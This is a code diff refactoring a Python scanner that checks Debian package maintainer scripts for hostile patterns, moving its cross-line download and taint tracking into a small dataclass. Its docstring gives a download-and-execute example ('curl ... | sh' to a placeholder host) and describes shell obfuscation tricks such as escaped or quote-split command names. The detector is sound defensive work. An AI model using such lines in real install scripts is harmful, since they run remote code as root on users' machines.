@@ -1,16 +1,16 @@
-"""Deterministic rules over maintainer scripts. Pure: bytes in, findings out.
+r"""Deterministic rules over maintainer scripts. Pure: bytes in, findings out.
 
 dpkg runs ``preinst``, ``postinst``, ``prerm``, ``postrm`` and ``config`` as root;
 ``triggers`` declares what wakes the package. Each script is read line by line
 (backslash continuations joined, the finding names the first physical line; full
 comment lines skipped) and every logical line is matched twice:
 
-- as written (``raw``): catches the *shape* of obfuscation (runs of ``\\x63`` /
-  ``\\143`` escapes, ``base64 -d``);
+- as written (``raw``): catches the *shape* of obfuscation (runs of ``\x63`` /
+  ``\143`` escapes, ``base64 -d``);
 - de-obfuscated (``norm``): quotes removed (``s""h`` -> ``sh``, ``c'u'rl`` ->
   ``curl``), backslash-escaped letters unescaped, ``$IFS`` turned into a space,
   printf/echo escapes decoded, and simple variables assigned earlier in the script
-  substituted (``c=$(printf '\\143\\165\\162\\154')`` then ``$c`` -> ``curl``).
+  substituted (``c=$(printf '\143\165\162\154')`` then ``$c`` -> ``curl``).
 
 Two facts flow between lines: files a line downloads (``curl -o /tmp/x``) and
 variables assigned from a download or a decode. Executing either later is
@@ -27,7 +27,7 @@ produces no finding. Upgrades: :func:`compare_scripts` yields ``script.new`` and
 ``script.changed`` (severity ``changed``, line = first differing line).
 
 Example:
-    >>> body = b"#!/bin/sh\\ncurl -s http://e.invalid/i | sh\\n"
+    >>> body = b"#!/bin/sh\ncurl -s http://e.invalid/i | sh\n"
     >>> scan_script("aegis-x", "postinst", body)[0].rule
     'script.download-exec'
 """
@@ -36,6 +36,7 @@ from __future__ import annotations
 
 import re
 from collections.abc import Mapping
+from dataclasses import dataclass, field
 
 from aegis.analyze.evidence.script_rules import RULES
 from aegis.analyze.evidence.script_text import (
@@ -145,6 +146,64 @@ def _excerpt(raw: str) -> str:
     return text if len(text) <= MAX_EXCERPT else text[: MAX_EXCERPT - 1] + "…"
 
 
+def _rule_hits(line: Line) -> dict[str, str]:
+    """Rule id -> severity for each per-line rule ``line`` fires, as written or decoded."""
+    hits: dict[str, str] = {}
+    for rule_id, check in RULES:
+        severity = check(line)
+        if severity is not None:
+            hits[rule_id] = severity
+    # What a base64 literal on this line decodes to is judged as if written here.
+    for rule_id, severity in _decoded_hits(line):
+        if RANK[severity] > RANK.get(hits.get(rule_id, CHANGED), 0) or rule_id not in hits:
+            hits[rule_id] = severity
+    return hits
+
+
+@dataclass
+class _Facts:
+    """What earlier lines of one script established, for the lines after them."""
+
+    variables: dict[str, str] = field(default_factory=dict)
+    """Simple variables assigned a plain value -> that value (substituted into ``norm``)."""
+    produced: dict[str, str] = field(default_factory=dict)
+    """Files an earlier line downloaded or decoded -> the rule that running them fires."""
+    tainted: dict[str, str] = field(default_factory=dict)
+    """Variables assigned from a download or a decode -> the rule that running them fires."""
+
+    def executed(self, line: Line, unsubstituted: str) -> dict[str, str]:
+        """Cross-line rules ``line`` fires by running what an earlier line produced."""
+        hits: dict[str, str] = {}
+        for target, rule_id in self.produced.items():
+            if _executes(line.norm, target):
+                hits[rule_id] = HOSTILE
+        for var, rule_id in self.tainted.items():
+            if _executes_var(unsubstituted, var):
+                hits[rule_id] = HOSTILE
+        return hits
+
+    def learn(self, line: Line, unsubstituted: str, hits: Mapping[str, str]) -> None:
+        """Record what ``line`` downloads, decodes or assigns (``hits``: what it fired)."""
+        m = _DOWNLOAD_TARGET.search(line.norm)
+        if m:
+            self.produced[m.group(1)] = "script.download-exec"
+        m = _DECODE_TARGET.search(line.norm)
+        if m and "script.decoded-exec" in hits:
+            self.produced[m.group(1)] = "script.decoded-exec"
+        a = _ASSIGN.match(unsubstituted)
+        if a is None:
+            return
+        var, value = a.group(1), a.group(2).strip()
+        if "script.download-exec" in hits or re.search(FETCH, line.norm):
+            self.tainted[var] = "script.download-exec"
+        elif "script.decoded-exec" in hits:
+            self.tainted[var] = "script.decoded-exec"
+        wrapped = _SUBST_WRAP.match(value)
+        literal = wrapped.group(1) if wrapped else value
+        if _PLAIN_VALUE.match(literal):
+            self.variables[var] = literal
+
+
 def scan_script(package: str, name: str, body: bytes) -> tuple[Finding, ...]:
     """Apply :data:`RULES` to one maintainer script.
 
@@ -159,66 +218,28 @@ def scan_script(package: str, name: str, body: bytes) -> tuple[Finding, ...]:
     """
     if _is_binary(body):
         return (Finding("script.binary", package, name, 1, HOSTILE, "not a text script"),)
-    text = body.decode("utf-8")
-    found: dict[tuple[int, str], Finding] = {}
-    variables: dict[str, str] = {}
-    produced: dict[str, str] = {}
-    """Files an earlier line downloaded or decoded -> the rule that running them fires."""
-    tainted: dict[str, str] = {}
-    lines = logical_lines(text)
+    lines = logical_lines(body.decode("utf-8"))
     if len(lines) > MAX_LINES:
         return (Finding("script.binary", package, name, 1, HOSTILE, "script too long to review"),)
-
-    def add(rule: str, line: Line, severity: str) -> None:
-        key = (line.number, rule)
-        old = found.get(key)
-        if old is None or RANK[severity] > RANK[old.severity]:
-            found[key] = Finding(rule, package, name, line.number, severity, _excerpt(line.raw))
-
+    found: dict[tuple[int, str], Finding] = {}
+    facts = _Facts()
     for number, raw in lines:
         stripped = raw.strip()
         if not stripped or stripped.startswith("#"):
             continue
         unsubstituted = normalise(raw, {})
-        line = Line(number, raw, normalise(raw, variables), package)
-        hits: dict[str, str] = {}
-        for rule_id, check in RULES:
-            severity = check(line)
-            if severity is not None:
-                hits[rule_id] = severity
-        # What a base64 literal on this line decodes to is judged as if written here.
-        for rule_id, severity in _decoded_hits(line):
-            if RANK[severity] > RANK.get(hits.get(rule_id, CHANGED), 0) or rule_id not in hits:
-                hits[rule_id] = severity
-        # Cross-line: running what an earlier line downloaded or decoded.
-        for target, rule_id in produced.items():
-            if _executes(line.norm, target):
-                hits[rule_id] = HOSTILE
-        for var, rule_id in tainted.items():
-            if _executes_var(unsubstituted, var):
-                hits[rule_id] = HOSTILE
+        line = Line(number, raw, normalise(raw, facts.variables), package)
+        hits = _rule_hits(line)
+        hits.update(facts.executed(line, unsubstituted))
         for rule_id, severity in hits.items():
             if any(s in hits for s in _SUPPRESSED_BY.get(rule_id, ())):
                 continue
-            add(rule_id, line, severity)
-        # Facts for later lines.
-        m = _DOWNLOAD_TARGET.search(line.norm)
-        if m:
-            produced[m.group(1)] = "script.download-exec"
-        m = _DECODE_TARGET.search(line.norm)
-        if m and "script.decoded-exec" in hits:
-            produced[m.group(1)] = "script.decoded-exec"
-        a = _ASSIGN.match(unsubstituted)
-        if a:
-            var, value = a.group(1), a.group(2).strip()
-            if "script.download-exec" in hits or re.search(FETCH, line.norm):
-                tainted[var] = "script.download-exec"
-            elif "script.decoded-exec" in hits:
-                tainted[var] = "script.decoded-exec"
-            wrapped = _SUBST_WRAP.match(value)
-            literal = wrapped.group(1) if wrapped else value
-            if _PLAIN_VALUE.match(literal):
-                variables[var] = literal
+            old = found.get((number, rule_id))
+            if old is None or RANK[severity] > RANK[old.severity]:
+                found[number, rule_id] = Finding(
+                    rule_id, package, name, number, severity, _excerpt(raw)
+                )
+        facts.learn(line, unsubstituted, hits)
     return tuple(sorted(found.values(), key=lambda f: (f.line, f.rule)))
 
 
